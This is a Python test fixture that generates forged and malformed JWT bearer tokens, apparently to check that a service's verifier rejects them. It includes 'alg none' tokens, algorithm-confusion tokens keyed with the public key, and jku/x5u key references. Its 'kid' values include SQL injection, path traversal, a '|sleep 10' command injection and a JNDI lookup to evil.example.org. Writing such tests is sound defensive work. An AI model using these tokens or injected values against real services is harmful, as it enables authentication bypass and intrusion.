"""Bad tokens: each is the value of a header, by what is wrong with it."""

from __future__ import annotations

import json
import time
from base64 import b64encode, urlsafe_b64decode
from collections.abc import Iterator
from typing import Any, cast

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec

from .issuer import (
    AUDIENCE,
    ISSUER,
    SECRET,
    Json,
    Sign,
    claims,
    ec_key,
    es,
    hs,
    ps,
    rs,
    rsa_jwk,
    rsa_key,
    signed,
)

Named = Iterator[tuple[str, bytes]]
EXPIRED = "expired"
_DAY = 86_400


def of_secret() -> dict[str, bytes]:
    """For a service that knows a secret."""
    return dict(_headers(_all(_Signer("HS256", None, hs(SECRET)), _of_secret())))


def of_keys(foreign_url: str) -> dict[str, bytes]:
    """For a service that has the keys of a provider; a stranger publishes his own at `foreign_url`."""
    rsa_signer = _Signer("RS256", "rsa", rs(rsa_key("own")))
    ec_signer = _Signer("ES256", "ec", es(ec_key("own")))
    named = dict(_headers(_all(rsa_signer, _of_keys(foreign_url))))
    return {
        **named,
        **{f"ES256: {name}": each for name, each in _headers(_all(ec_signer, iter(())))},
    }


class _Signer:
    """Signs as the issuer does, whatever it is asked to."""

    def __init__(self, algorithm: str, kid: str | None, sign: Sign) -> None:
        self.algorithm = algorithm
        self.sign = sign
        self.header: Json = {"alg": algorithm, "typ": "JWT", **({"kid": kid} if kid else {})}

    def token(self, **others: Any) -> bytes:
        return signed(self.header, claims(**others), self.sign)

    def payload(self, payload: bytes) -> bytes:
        return signed(self.header, payload, self.sign)

    def headed(self, **others: Any) -> bytes:
        return signed({**self.header, **others}, claims(), self.sign)


def _headers(tokens: Named) -> Named:
    for name, token in tokens:
        yield name, b"Bearer " + token


def _all(signer: _Signer, own: Named) -> Named:
    yield from _shapes(signer)
    yield from _unsigned(signer)
    yield from _claims(signer)
    yield from _payloads(signer)
    yield from _header(signer)
    yield from own


def _shapes(signer: _Signer) -> Named:
    token = signer.token()
    header, payload, signature = token.split(b".")
    yield "nothing", b""
    yield "a word", b"alice"
    yield "only dots", b".."
    yield "no signature at all", header + b"." + payload
    yield "an empty signature", header + b"." + payload + b"."
    yield "half of the signature", token[: -len(signature) // 2]
    yield (
        "the signature of another",
        b".".join((header, payload, signer.token(sub="eve").split(b".")[2])),
    )
    yield "another payload", b".".join((header, signer.token(sub="eve").split(b".")[1], signature))
    yield "a fourth part", token + b"." + signature
    yield "five parts, as if encrypted", b".".join((header, b"", payload, signature, signature))
    yield "a space inside", header + b" ." + payload + b"." + signature
    yield "two tokens", token + b"," + token
    yield "not the alphabet", b"!" + token
    yield "not the alphabet inside of the signature", token[:-1] + b"!" + token[-1:]
    yield "padded", token + b"=="
    yield "bytes that are no ASCII", "tökén".encode() + token
    yield "the bits behind the end", _with_other_tail(token)
    yield (
        "as JSON",
        json.dumps({"payload": payload.decode(), "signature": signature.decode()}).encode(),
    )
    yield "oversized", signer.token(padding="x" * 8192)
    yield "oversized by far", signer.token(padding="x" * 30_000)


def _with_other_tail(token: bytes) -> bytes:
    """The same bytes when read carelessly: of its last character not all bits count."""
    alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    unused = 4 if len(token.rpartition(b".")[2]) % 4 == 2 else 2
    at = alphabet.index(token[-1:])
    assert at % (1 << unused) == 0
    return token[:-1] + alphabet[at + 1 : at + 2]


def _unsigned(signer: _Signer) -> Named:
    for algorithm in ("none", "None", "NONE", "nOnE", "", "HS", "hs256", "null"):
        header = {**signer.header, "alg": algorithm}
        yield f"algorithm {algorithm!r}", signed(header, claims(), lambda _: b"")
        yield f"algorithm {algorithm!r}, signed", signed(header, claims(), signer.sign)
    without = {name: value for name, value in signer.header.items() if name != "alg"}
    yield "no algorithm", signed(without, claims(), signer.sign)
    for odd in (None, 1, True, ["none"], [signer.algorithm], {"alg": signer.algorithm}):
        yield f"algorithm {odd!r}", signed({**signer.header, "alg": odd}, claims(), signer.sign)


def _claims(signer: _Signer) -> Named:
    now = int(time.time())
    wrong: dict[str, list[Any]] = {
        "iss": ["https://evil.example.org/", ISSUER + "x", ISSUER[:-1], ISSUER.upper(), "", 1, [ISSUER], {}],
        "aud": ["other", AUDIENCE + "/", AUDIENCE[:-1], "", [], ["other"], 1, {AUDIENCE: 1}, [AUDIENCE, 1]],
        "exp": [-1, now + 100 * 366 * _DAY, 10**15, 10**30, 10**400, True, str(now + 600), [now + 600], {}],
        "nbf": [now + 600, 10**30, str(now), True, [], -1],
        "iat": [now + 600, 10**30, str(now), True, []],
        "sub": [1, True, "", [], ["alice"], {"id": "alice"}, "a" * 201, "a\nb", "a\0b", "\ud800", "a\u202eb"],
        "jti": [1, "", [], "a\0b", "a" * 201],
        "roles": [1, {"admin": True}, [1], [["admin"]], [""], ["a\0"]],
        "tenant": [1, [], "", "a\0b"],
    }  # fmt: skip
    for name, values in wrong.items():
        for value in values:
            yield f"{name}: {str(value)[:50]!r}", signer.token(**{name: value})
    for moment in (now - 60, 0):
        yield f"{EXPIRED} at {moment}", signer.token(exp=moment)
    for name in ("iss", "aud", "exp", "sub"):
        yield f"without {name}", signer.token(**{name: None})
        yield f"{name} is null", signer.payload(json.dumps({**claims(), name: None}).encode())


def _payloads(signer: _Signer) -> Named:
    good = json.dumps(claims()).encode()
    yield "a list", signer.payload(b"[%b]" % good)
    yield "a text", signer.payload(b'"alice"')
    yield "null", signer.payload(b"null")
    yield "no JSON", signer.payload(good[:-1])
    yield "an empty payload", signer.payload(b"")
    yield "more than one", signer.payload(good + good)
    yield "UTF-16", signer.payload(good.decode().encode("utf-16"))
    yield "no UTF-8", signer.payload(good.replace(b"alice", b"al\xffce"))
    yield "nested deeply", signer.payload(b'{"a":' + b"[" * 5000 + good)
    yield "sub twice", signer.payload(good[:-1] + b', "sub": "admin"}')
    yield "exp twice", signer.payload(good[:-1] + b', "exp": 99999999999}')
    yield "a name twice inside", signer.payload(good[:-1] + b', "a": {"b": 1, "b": 2}}')
    for number in (b"Infinity", b"-Infinity", b"NaN", b"1e400", b"1" * 5000):
        exp = str(json.loads(good)["exp"]).encode()
        yield f"exp is {number[:9].decode()}", signer.payload(good.replace(exp, number))


def _header(signer: _Signer) -> Named:
    yield "crit", signer.headed(crit=["exp"])
    yield "crit of what is there", signer.headed(crit=["urn:x"], **{"urn:x": 1})
    yield "an empty crit", signer.headed(crit=[])
    yield "b64", signer.headed(b64=False, crit=["b64"])
    yield "b64 alone", signer.headed(b64=False)
    yield "compressed", signer.headed(zip="DEF", crit=["zip"])
    yield "a logout token", signer.headed(typ="logout+jwt")
    yield "a proof", signer.headed(typ="dpop+jwt")
    yield "a type of no text", signer.headed(typ=["JWT"])
    once = json.dumps(signer.header).encode()[:-1]
    twice = once + b', "alg": "' + signer.algorithm.encode() + b'"}'
    yield "alg twice", signed(twice, claims(), signer.sign)
    yield "a header that is a list", signed(b"[]", claims(), signer.sign)
    yield "a header that is no JSON", signed(b"{", claims(), signer.sign)
    for odd in cast("tuple[object, ...]", (1, [], {}, True)):
        yield f"kid {odd!r}", signer.headed(kid=odd)


def _of_secret() -> Named:
    header = {"alg": "HS256"}
    for secret in ("", "secret", SECRET[:-1], SECRET + "\n", "\0" * 32, AUDIENCE):
        yield f"secret {secret[:20]!r}", signed(header, claims(), hs(secret))
    for size in (384, 512):
        yield f"HS{size}", signed({"alg": f"HS{size}"}, claims(), hs(SECRET, f"sha{size}"))
    for kid in _INJECTED:
        yield f"empty key for kid {kid!r}", signed({**header, "kid": kid}, claims(), hs(""))
    yield "RS256", signed({"alg": "RS256"}, claims(), rs(rsa_key("foreign")))
    jwk = rsa_jwk(None, rsa_key("foreign"))
    yield (
        "RS256 with its key",
        signed({"alg": "RS256", "jwk": jwk}, claims(), rs(rsa_key("foreign"))),
    )


_INJECTED = (
    "/dev/null",
    "../../../../dev/null",
    "file:///dev/null",
    "rsa' UNION SELECT ''--",
    "rsa' OR '1'='1",
    "https://evil.example.org/keys",
    "rsa\0",
    "rsa\n",
    "${jndi:ldap://evil.example.org}",
    "|sleep 10",
    "__class__",
    "",
    "RSA",
    "x" * 4000,
)


def _of_keys(foreign_url: str) -> Named:
    own, foreign = rsa_key("own"), rsa_key("foreign")
    header = {"alg": "RS256", "kid": "rsa"}
    yield "a foreign key", signed(header, claims(), rs(foreign))
    yield "a foreign key of another id", signed({**header, "kid": "foreign"}, claims(), rs(foreign))
    yield "a key too short", signed({**header, "kid": "short"}, claims(), rs(rsa_key("own", 1024)))
    yield (
        "a key to encrypt",
        signed({**header, "kid": "encrypts"}, claims(), rs(rsa_key("encrypts"))),
    )
    yield "no kid where there are two keys", signed({"alg": "RS256"}, claims(), rs(foreign))
    yield "the kid of another key", signed({**header, "kid": "ec"}, claims(), rs(own))
    for kid in _INJECTED:
        yield f"kid {kid[:40]!r}", signed({**header, "kid": kid}, claims(), rs(foreign))
        yield (
            f"kid {kid[:40]!r}, empty secret",
            signed({"alg": "HS256", "kid": kid}, claims(), hs("")),
        )
    for digest in (hashes.SHA384(), hashes.SHA512()):
        name = f"RS{digest.digest_size * 8}"
        yield f"{name} by the own key", signed({**header, "alg": name}, claims(), rs(own, digest))
    yield "PS256 by the own key", signed({**header, "alg": "PS256"}, claims(), ps(own))
    yield from _swapped(header)
    yield from _referring(header, foreign_url)
    yield from _curves()


def _swapped(header: Json) -> Named:
    """HMAC with what everybody knows."""
    public = rsa_key("own").public_key()
    pem, der = serialization.Encoding.PEM, serialization.Encoding.DER
    spki, pkcs1 = serialization.PublicFormat.SubjectPublicKeyInfo, serialization.PublicFormat.PKCS1
    known = {
        "PEM": public.public_bytes(pem, spki),
        "PEM without its last line break": public.public_bytes(pem, spki).strip(),
        "PKCS#1": public.public_bytes(pem, pkcs1),
        "DER": public.public_bytes(der, spki),
        "JWK": json.dumps(rsa_jwk("rsa", rsa_key("own"), use="sig", alg="RS256")).encode(),
        "modulus": urlsafe_b64decode(rsa_jwk("rsa", rsa_key("own"))["n"] + "=="),
        "nothing": b"",
    }
    for size in (256, 384, 512):
        for name, secret in known.items():
            swapped = {**header, "alg": f"HS{size}"}
            yield f"HS{size} by {name}", signed(swapped, claims(), hs(secret, f"sha{size}"))


def _referring(header: Json, foreign_url: str) -> Named:
    """To a key that the token brings along."""
    foreign = rsa_key("foreign")
    jwk = rsa_jwk("rsa", foreign)
    for kid in ("rsa", "foreign"):
        for name, value in {
            "jku": foreign_url,
            "x5u": foreign_url,
            "jwk": jwk,
            "x5c": [b64encode(b"no certificate").decode()],
        }.items():
            referring = {**header, "kid": kid, name: value}
            yield f"{name} for {kid}", signed(referring, claims(), rs(foreign))


def _curves() -> Named:
    header = {"alg": "ES256", "kid": "ec"}
    own = ec_key("own")

    def in_der(content: bytes) -> bytes:
        return own.sign(content, ec.ECDSA(hashes.SHA256()))

    yield "ES256 in DER", signed(header, claims(), in_der)
    yield "ES256 of zeros", signed(header, claims(), lambda _: bytes(64))
    yield "ES256 of too many bytes", signed(header, claims(), lambda c: es(own)(c) + b"\0")
    yield "ES256 by a foreign key", signed(header, claims(), es(ec_key("foreign")))
    yield "ES384 by the own key", signed({**header, "alg": "ES384"}, claims(), es(own))
